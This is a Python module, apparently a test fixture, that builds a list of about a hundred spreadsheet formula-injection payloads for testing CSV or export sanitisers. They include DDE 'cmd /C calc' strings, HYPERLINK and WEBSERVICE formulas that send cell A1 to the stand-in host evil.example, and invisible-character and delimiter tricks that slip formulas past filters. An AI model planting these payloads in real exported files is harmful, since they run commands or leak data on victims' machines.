"""A hundred texts that some spreadsheet program would run, follow or fetch."""

from itertools import product

_ACTS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example","//a")',
    'DDE("cmd","/C calc","x")',
    'IMAGE("http://evil.example/p.gif")',
)
_SIGNS = tuple("=+-@＝＋－＠")
_UNSEEN = (
    "\t",
    "\r",
    "\n",
    "\r\n",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2060",
    "\u00ad",
    "\u202e",
    "\x00",
    "\x1b",
    "\ue000",
    "\u2028",
    "\x0b",
)
_OTHERS = (
    '"=1+1',
    '""=1+1',
    "'=1+1",
    "Court;=1+1",
    'Court;"=1+1"',
    'Court"";=1+1',
    "Court;\u200b@SUM(A1)",
    "Court; ＝1+1",
    "Court\t=1+1",
    "Court\n=1+1",
    "Court\r\n\r\n=1+1",
    '","=1+1","',
    '";"=1+1";"',
    "{=1+1}",
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:c:/windows/system32",
    "file://evil.example/share",
    "﹦1+1",
)

FORMULAS = (
    *(f"{sign}{act}" for sign, act in product(_SIGNS, _ACTS)),
    *(f"{unseen}=1+1" for unseen in _UNSEEN),
    *_OTHERS,
)
